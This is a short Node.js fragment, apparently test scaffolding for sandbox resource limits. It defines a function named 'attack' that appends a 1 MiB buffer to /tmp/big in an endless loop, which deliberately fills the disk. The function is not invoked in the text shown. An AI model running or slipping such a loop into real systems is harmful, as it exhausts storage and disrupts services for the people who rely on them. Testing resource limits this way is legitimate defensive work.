const fs = require('fs');
const tried = (action) => { try { return action(); } catch { return null; } };
const block = Buffer.alloc(1 << 20, 1);
const attack = () => { for (;;) fs.appendFileSync('/tmp/big', block); };
